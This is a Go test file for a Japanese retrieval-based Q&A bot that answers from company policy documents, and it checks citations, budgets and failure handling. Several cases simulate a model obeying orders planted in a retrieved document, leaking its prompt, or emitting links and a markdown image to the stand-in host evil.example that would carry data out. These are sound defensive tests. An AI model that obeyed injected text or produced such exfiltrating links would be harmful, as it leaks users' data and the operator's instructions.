package bot_test

import (
	"context"
	"errors"
	"regexp"
	"strings"
	"testing"
	"time"

	"kotae/bot"
	"kotae/bot/bottest"
	"kotae/bot/extract"
	"kotae/bot/guard"
	"kotae/bot/llm"
	"kotae/retrieval"
	"kotae/retrieval/japanese"
)

var analyzer = japanese.NewAnalyzer()

// travel and remote are what the model's answers are checked against.
var (
	travel = retrieval.Passage{
		File: "総務/出張旅費規程.md", Title: "出張旅費規程", StartLine: 30, EndLine: 33,
		Sections: []retrieval.Section{{Line: 30, Heading: "宿泊費"}},
		Text:     "宿泊費は1泊12,000円を上限とする。\nただし、部長が事前に承認したときは、3,000円まで超過を認める。\n領収書は帰着後7営業日以内に提出する。\n事後の申出による超過は認めない。",
	}
	remote = retrieval.Passage{
		File: "人事/在宅勤務規程.md", Title: "在宅勤務規程", StartLine: 5, EndLine: 6,
		Sections: []retrieval.Section{{Line: 5, Heading: "回数"}},
		Text:     "在宅勤務は週3日を上限とする。\n詳しくは https://intra.example/remote を見る。",
	}
)

// library is a retriever over travel and remote with the terms that quoting needs.
func library(question string) *shelf {
	s := &shelf{hits: []retrieval.Hit{hit(travel, 0.8, 0.8), hit(remote, 0.5, 0.4)}}
	for c, terms := range analyzer.Terms(question) {
		for _, t := range terms {
			s.terms = append(s.terms, retrieval.Term{Channel: c, Text: t, Rarity: 1})
		}
	}
	return s
}

const asked = "出張の宿泊費は1泊いくらまでですか。"

// writes asks with a model at the endpoint and returns the answer and what was shown.
func writes(t *testing.T, ctx context.Context, e *bottest.Endpoint, question string, limits llm.Limits, budget bot.Budget) (bot.Answer, string, error) {
	t.Helper()
	client, err := llm.New(llm.Config{
		BaseURL: e.URL(), Key: llm.NewKey("secret-key"), ChatModel: "test", ContextTokens: 16_000,
		Limits: limits, Retry: llm.Retry{Attempts: 2, First: time.Millisecond},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(client.Close)
	b := bot.New(library(question), extract.New(analyzer), bot.Options{Writer: client, Guard: guard.New(analyzer), Budget: budget})
	var shown strings.Builder
	a, err := b.Stream(ctx, bot.Question{Text: question}, func(text string) { shown.WriteString(text) })
	return a, shown.String(), err
}

var marks = regexp.MustCompile(`\[(\d+)\]`)

// proven checks what holds of every answer: marks and citations agree, and quotes
// stand where they say.
func proven(t *testing.T, a bot.Answer) {
	t.Helper()
	seen := map[string]bool{}
	for _, m := range marks.FindAllStringSubmatch(a.Text, -1) {
		seen[m[1]] = true
	}
	if len(seen) != len(a.Citations) {
		t.Errorf("%d marks, %d citations: %s", len(seen), len(a.Citations), a.Text)
	}
	for _, c := range a.Citations {
		p := travel
		if c.File == remote.File {
			p = remote
		}
		lines := strings.Split(p.Text, "\n")[c.StartLine-p.StartLine : c.EndLine-p.StartLine+1]
		if !strings.Contains(strings.Join(lines, "\n"), c.Quote) {
			t.Errorf("citation %d quotes what is not on its lines: %q", c.N, c.Quote)
		}
	}
	if strings.Contains(a.Text, "secret-key") {
		t.Error("the key is in the answer")
	}
}

func cited(text string) bottest.Behaviour {
	return bottest.Says(func(r *bottest.Request) string { return withIDs(r, text) })
}

// withIDs puts the sources' IDs where a text has {0} and {1}.
func withIDs(r *bottest.Request, text string) string {
	for i, p := range r.Passages() {
		text = strings.ReplaceAll(text, "{"+string(rune('0'+i))+"}", "["+p.ID+"]")
	}
	return text
}

func TestWhatTheReaderSeesOfAModel(t *testing.T) {
	const good = "宿泊費は1泊12,000円が上限です。{0}"
	const (
		quoted   = "- 宿泊費は1泊12,000円を上限とする。 [1]"
		noModel  = "モデルから応答を得られなかった"
		unproven = "裏づけられなかった"
		cutShort = "途中で途切れました"
	)
	for _, tt := range []struct {
		name   string
		model  []bottest.Behaviour
		status bot.Status
		want   []string
		never  []string
	}{
		{"a cited answer is shown with its number", []bottest.Behaviour{cited(good)}, bot.Answered,
			[]string{"宿泊費は1泊12,000円が上限です。 [1]"}, []string{quoted}},
		{"the same in every byte apart", []bottest.Behaviour{bottest.Bytewise()}, bot.Answered, []string{"[1]"}, []string{noModel}},
		{"two sources have two numbers, in order of appearance", []bottest.Behaviour{cited("在宅勤務は週3日までです。{1}宿泊費は1泊12,000円までです。{0}")}, bot.Answered,
			[]string{"在宅勤務は週3日までです。 [1] 宿泊費は1泊12,000円までです。 [2]"}, nil},
		{"a source nobody knows proves nothing", []bottest.Behaviour{bottest.CitesUnknown()}, bot.Answered, []string{quoted, unproven}, nil},
		{"altered digits are not shown", []bottest.Behaviour{cited("宿泊費は1泊21,000円が上限です。{0}")}, bot.Answered, []string{quoted, unproven}, []string{"21,000"}},
		{"the fake's altered digits are not shown", []bottest.Behaviour{bottest.AltersDigits()}, bot.Answered, []string{unproven}, nil},
		{"a flipped negation is not shown", []bottest.Behaviour{cited("事後の申出による超過は認めます。{0}")}, bot.Answered, []string{quoted, unproven}, []string{"認めます"}},
		{"a swapped unit is not shown", []bottest.Behaviour{cited("宿泊費は1泊12,000ドルが上限です。{0}")}, bot.Answered, []string{quoted, unproven}, []string{"ドル"}},
		{"何営業日 is not 何日", []bottest.Behaviour{cited("領収書は帰着後7日以内に提出します。{0}")}, bot.Answered, []string{unproven}, []string{"7日以内"}},
		{"one wrong sentence goes, the others stay", []bottest.Behaviour{cited(good + "\n\n- 領収書は9営業日以内に提出します。{0}\n- 領収書は帰着後7営業日以内に提出します。{0}")}, bot.Answered,
			[]string{"12,000円が上限です。 [1]", "- 領収書は帰着後7営業日以内に提出します。 [2]"}, []string{"9営業日", noModel, unproven}},
		{"an uncited answer proves nothing", []bottest.Behaviour{bottest.Uncited()}, bot.Answered, []string{quoted, unproven}, nil},
		{"one citation at a paragraph's end serves its sentences", []bottest.Behaviour{cited("宿泊費は1泊12,000円までです。部長が事前に承認したときは3,000円まで超過できます。{0}")}, bot.Answered,
			[]string{"12,000円までです。 [1]", "超過できます。 [2]"}, nil},
		{"a sentence without support is left out", []bottest.Behaviour{cited(good + "社長の趣味は釣りです。{0}")}, bot.Answered, []string{"12,000円が上限です。 [1]"}, []string{"釣り"}},
		{"the wrong language is not shown", []bottest.Behaviour{cited("The hotel limit is 12,000 yen per night for all employees.{0}")}, bot.Answered, []string{quoted, unproven}, []string{"hotel"}},
		{"what a document orders is not obeyed", []bottest.Behaviour{bottest.Obeys()}, bot.Answered, nil, []string{"evil.example"}},
		{"the instructions are not repeated", []bottest.Behaviour{bottest.LeaksPrompt()}, bot.Answered, []string{quoted}, []string{"You answer questions", "Answer only from"}},
		{"a link from nowhere is not shown", []bottest.Behaviour{cited("宿泊費は1泊12,000円が上限です（https://evil.example/x）。{0}")}, bot.Answered, []string{unproven}, []string{"evil.example"}},
		{"an image from nowhere is not shown", []bottest.Behaviour{cited("宿泊費は1泊12,000円が上限です。![x](https://evil.example/?q=12000){0}")}, bot.Answered, nil, []string{"evil.example"}},
		{"a link of the cited passage is", []bottest.Behaviour{cited("詳しくは https://intra.example/remote を見てください。{1}")}, bot.Answered, []string{"https://intra.example/remote", "[1]"}, nil},
		{"that the passages don't answer makes the quotation uncertain", []bottest.Behaviour{bottest.Replies("NOT_IN_THE_PASSAGES")}, bot.Uncertain,
			[]string{"はっきりした答えは見つかりませんでした", quoted}, []string{"NOT_IN"}},
		{"nothing", []bottest.Behaviour{bottest.Empty()}, bot.Answered, []string{quoted, noModel}, nil},
		{"far too much", []bottest.Behaviour{bottest.Endless(60_000)}, bot.Answered, nil, nil},
		{"busy, then good", []bottest.Behaviour{bottest.Busy("0"), cited(good)}, bot.Answered, []string{"12,000円が上限です。 [1]"}, []string{noModel}},
		{"broken for good", bottest.Times(9, bottest.Fails()), bot.Answered, []string{quoted, noModel}, nil},
		{"a proxy's page", bottest.Times(9, bottest.Page(200)), bot.Answered, []string{quoted, noModel}, []string{"<html"}},
		{"a proxy's failure", bottest.Times(9, bottest.Page(502)), bot.Answered, []string{quoted, noModel}, []string{"<html"}},
		{"the wrong key", []bottest.Behaviour{bottest.WrongKey()}, bot.Answered, []string{quoted, noModel}, nil},
		{"an unknown model", []bottest.Behaviour{bottest.UnknownModel()}, bot.Answered, []string{quoted, noModel}, nil},
		{"no quota", bottest.Times(9, bottest.NoQuota()), bot.Answered, []string{quoted, noModel}, nil},
		{"a context too long twice", bottest.Times(9, bottest.ContextTooLong()), bot.Answered, []string{quoted, noModel}, nil},
		{"a refusal", []bottest.Behaviour{bottest.Refuses()}, bot.Answered, []string{quoted, noModel}, nil},
		{"no first word", bottest.Times(9, bottest.SlowStart()), bot.Answered, []string{quoted, noModel}, nil},
		{"cut off before a sentence is whole", bottest.Times(9, bottest.Breaks(3)), bot.Answered, []string{quoted, noModel}, nil},
		{"cut off behind a proven sentence", []bottest.Behaviour{cutAfter(good + "領収書は")}, bot.Answered,
			[]string{"12,000円が上限です。 [1]", cutShort}, []string{quoted}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := bottest.NewEndpoint(t, bottest.Settings{})
			e.Chat(tt.model...)
			a, shown, err := writes(t, t.Context(), e, asked, llm.Limits{FirstToken: 300 * time.Millisecond, Idle: 300 * time.Millisecond}, nil)
			if err != nil {
				t.Fatal(err)
			}
			proven(t, a)
			if shown != "" && shown != a.Text {
				t.Errorf("shown\n%s\nbut the text is\n%s", shown, a.Text)
			}
			if a.Status != tt.status {
				t.Errorf("status %s, want %s: %s", a.Status, tt.status, a.Text)
			}
			for _, w := range tt.want {
				if !strings.Contains(a.Text, w) {
					t.Errorf("no %q in:\n%s\nverdicts: %v", w, a.Text, a.Trace.Verdicts)
				}
			}
			for _, w := range tt.never {
				if strings.Contains(a.Text, w) {
					t.Errorf("%q in:\n%s", w, a.Text)
				}
			}
		})
	}
}

// cutAfter says a text and breaks the connection.
func cutAfter(text string) bottest.Behaviour {
	return func(x *bottest.Exchange) {
		x.Piece(withIDs(&x.Request, text))
		x.Cut()
	}
}

func TestStoppingTheQuestionStopsTheModel(t *testing.T) {
	e := bottest.NewEndpoint(t, bottest.Settings{})
	e.Chat(bottest.SlowStart())
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error)
	go func() {
		_, _, err := writes(t, ctx, e, asked, llm.Limits{}, nil)
		done <- err
	}()
	for len(e.Requests()) == 0 {
		select {
		case err := <-done:
			t.Fatalf("ended before the model was asked: %v", err)
		default:
		}
	}
	cancel()
	if err := <-done; !errors.Is(err, context.Canceled) {
		t.Errorf("Stream: %v", err)
	}
	<-e.Left()
}

// A purse holds so many answers.
type purse struct {
	left  int
	spent bot.Usage
}

func (p *purse) Allows(context.Context) (bool, error) { return p.left > 0, nil }

func (p *purse) Spend(_ context.Context, u bot.Usage) error {
	p.left--
	p.spent.PromptTokens += u.PromptTokens
	p.spent.CompletionTokens += u.CompletionTokens
	return nil
}

func TestBudget(t *testing.T) {
	e := bottest.NewEndpoint(t, bottest.Settings{})
	p := &purse{left: 1}
	a, _, err := writes(t, t.Context(), e, asked, llm.Limits{}, p)
	if err != nil {
		t.Fatal(err)
	}
	if a.Usage.PromptTokens == 0 || a.Usage != p.spent {
		t.Errorf("the answer used %+v, the budget was charged %+v", a.Usage, p.spent)
	}
	a, _, err = writes(t, t.Context(), e, asked, llm.Limits{}, p)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(a.Text, "利用上限に達した") || len(a.Citations) == 0 {
		t.Errorf("over budget: %s", a.Text)
	}
	if n := len(e.Requests()); n != 1 {
		t.Errorf("%d requests, want 1", n)
	}
	proven(t, a)
}

// wordings rewrites nothing but adds further wordings, at a price.
type wordings struct {
	queries []string
	asked   int
}

func (w *wordings) Rewrite(_ context.Context, q bot.Question) (bot.Rewrite, error) {
	w.asked++
	return bot.Rewrite{Question: q.Text, Queries: w.queries, Usage: bot.Usage{PromptTokens: 1000}}, nil
}

// byWording finds other passages for other questions.
type byWording map[string][]retrieval.Hit

func (b byWording) Search(_ context.Context, q retrieval.Query) (retrieval.Hits, error) {
	return retrieval.Hits{List: b[q.Text]}, nil
}
func (byWording) Intact(string) bool        { return true }
func (byWording) Modified(string) time.Time { return time.Time{} }

func TestFurtherWordingsAddPassagesAndNoConfidence(t *testing.T) {
	found := byWording{asked: {hit(remote, 0.2, 0.15)}, "上限": {hit(travel, 0.9, 0.95), hit(remote, 0.8, 0.9)}}
	composer := say(func(hits []retrieval.Hit) (bot.Draft, error) {
		best := 0.0
		for _, h := range hits {
			best = max(best, h.Coverage)
		}
		return bot.Draft{Evidence: bot.Evidence{Coverage: best}, Claims: []bot.Claim{{Text: "上限", Quotes: quotesOf(hits, "在宅勤務は週3日を上限とする。")}}}, nil
	})
	w := &wordings{queries: []string{"上限"}}
	a, err := bot.New(found, composer, bot.Options{ModelRewriter: w}).Answer(t.Context(), bot.Question{Text: asked})
	if err != nil {
		t.Fatal(err)
	}
	if a.Evidence.Coverage != 0.15 || a.Status != bot.Uncertain {
		t.Errorf("%s at a coverage of %v, want uncertain at 0.15", a.Status, a.Evidence.Coverage)
	}
	if len(a.Retrieved) != 2 || a.Retrieved[0].Passage.File != travel.File || a.Retrieved[0].Coverage != 0 {
		t.Errorf("retrieved %+v", a.Retrieved)
	}
	if a.Usage.PromptTokens != 1000 {
		t.Errorf("usage %+v", a.Usage)
	}
}

func TestTheBudgetCoversRewriting(t *testing.T) {
	w, p := &wordings{}, &purse{left: 1}
	b := bot.New(library(asked), extract.New(analyzer), bot.Options{ModelRewriter: w, Budget: p})
	for range 2 {
		if _, err := b.Answer(t.Context(), bot.Question{Text: asked}); err != nil {
			t.Fatal(err)
		}
	}
	if w.asked != 1 || p.spent.PromptTokens != 1000 {
		t.Errorf("asked %d times, charged %+v; want once, 1000", w.asked, p.spent)
	}
}

func TestWhatARewriteCostIsChargedThoughTheQuestionFails(t *testing.T) {
	p := &purse{left: 1}
	s := library(asked)
	s.err = errors.New("index gone")
	_, err := bot.New(s, extract.New(analyzer), bot.Options{ModelRewriter: &wordings{}, Budget: p}).Answer(t.Context(), bot.Question{Text: asked})
	if !errors.Is(err, s.err) || p.spent.PromptTokens != 1000 {
		t.Errorf("error %v, charged %+v", err, p.spent)
	}
}

// A rewritten is a rewriter that always finds the same.
type rewritten bot.Rewrite

func (r rewritten) Rewrite(context.Context, bot.Question) (bot.Rewrite, error) {
	return bot.Rewrite(r), nil
}

func TestWhatIsSearchedForNeedNotBeTheQuestion(t *testing.T) {
	for _, c := range []struct{ search, want string }{{"宿泊費の上限", "宿泊費の上限"}, {"", asked}} {
		s := library(asked)
		r := rewritten{Question: asked, Search: c.search}
		a, err := bot.New(s, extract.New(analyzer), bot.Options{Rewriter: r}).Answer(t.Context(), bot.Question{Text: asked})
		if err != nil {
			t.Fatal(err)
		}
		if s.asked.Text != c.want || a.Question != asked {
			t.Errorf("it searches for %q and answers %q, want %q and %q", s.asked.Text, a.Question, c.want, asked)
		}
	}
}
